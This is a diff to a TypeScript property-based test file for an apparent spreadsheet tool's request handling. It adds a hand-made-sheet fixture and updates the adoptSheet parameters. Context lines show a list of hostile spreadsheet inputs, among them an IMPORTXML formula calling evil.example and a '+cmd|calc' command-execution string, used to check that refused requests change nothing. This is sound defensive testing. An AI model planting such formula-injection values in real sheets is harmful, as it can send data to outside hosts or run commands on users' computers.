@@ -8,7 +8,15 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { METHODS, type Method } from '../../src/contract/params.ts';
+import { addHandMade } from '../support/hand-made.ts';
 import { withTable } from './helpers.ts';
+
+/** A Retail table and a hand-made sheet to adopt. */
+function fixture() {
+  const a = withTable();
+  addHandMade(a.app);
+  return a;
+}
 
 const HOSTILE_TEXT = [
   '=IMPORTXML("http://evil.example","//a")', '+cmd|calc', '-2+3', '@SUM(A1)', "'", '',
@@ -43,7 +51,8 @@ const VALID: Readonly<Record<Method, Record<string, unknown>>> = {
   updateGoal: { tableId: 'T1', goalId: 'R2', fields: { owner: 'Bo', notes: 'n', due: '2026-12-30' } },
   archiveGoal: { tableId: 'T1', goalId: 'R2', reason: 'r' },
   createTable: { template: 'Retail' },
-  adoptSheet: { sheetName: 'Hand made', headerRow: 1, mapping: { target: 'C' }, apply: false },
+  // The fixture's hand-made sheet (test/support/hand-made.ts): Goal value is column D.
+  adoptSheet: { sheetName: 'Hand made', headerRow: 2, mapping: { target: 'D' }, apply: false },
   refresh: {},
   selectGoal: { tableId: 'T1', goalId: 'R2' },
   getSettings: {},
@@ -90,7 +99,7 @@ function checkShape(r: unknown): void {
 
 describe('hostile requests', () => {
   it.each(METHODS)('%s: never throws; a refused request changes nothing', (method) => {
-    const a = withTable();
+    const a = fixture();
     fc.assert(
       fc.property(requests(method), (params) => {
         const before = a.s.saveJson();
@@ -105,7 +114,7 @@ describe('hostile requests', () => {
   }, 60_000);
 
   it('any method name, any params', () => {
-    const a = withTable();
+    const a = fixture();
     fc.assert(
       fc.property(fc.oneof(fc.string(), fc.anything({ maxDepth: 1 }), fc.constantFrom(...METHODS)), fc.anything({ maxDepth: 2 }), (method, params) => {
         const before = a.s.saveJson();
